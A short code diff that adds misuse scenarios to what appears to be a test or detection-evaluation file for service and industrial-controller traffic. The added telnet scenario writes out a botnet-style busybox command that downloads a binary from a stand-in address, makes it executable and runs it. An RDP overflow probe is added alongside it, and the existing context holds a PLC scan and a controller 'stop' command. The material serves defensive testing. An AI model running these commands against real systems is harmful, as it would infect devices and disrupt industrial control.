@@ -55,6 +55,24 @@ MISUSE: tuple[Scenario, ...] = (
         f"timeout 4 nmap -n -Pn -sT -p 102 --script s7-info {SERVER}",
         f"CONTROLLERS stop {SERVER}",
     ),
+    _misuse(
+        "telnet-bot",
+        "MalwareInstallation",
+        "SERVICES",
+        f"SERVICES telnet {SERVER} enable system shell sh /bin/busybox+ECCHI "
+        "/bin/busybox+cat+/proc/mounts;+/bin/busybox+ECCHI "
+        "cd+/tmp;+wget+http://192.0.2.66/bins/x.mips+-O+-+>x;+chmod+777+x;+./x+telnet",
+    ),
+    _misuse("rdp-probe", "RemoteOverflow", "SERVICES", f"SERVICES desktop {SERVER} MS_T120"),
+    # An administrator's sessions.
+    _misuse(
+        "benign-administration",
+        NORMAL,
+        "SERVICES",
+        f"SERVICES telnet {SERVER} busybox+ls cat+/proc/mounts "
+        "wget+http://updates.example.org/os.tar echo+-e+done",
+        f"SERVICES desktop {SERVER} rdpdr",
+    ),
     # A control room: it polls, then writes.
     _misuse("benign-control-room", NORMAL, "CONTROLLERS", f"CONTROLLERS supervise {SERVER}"),
 )
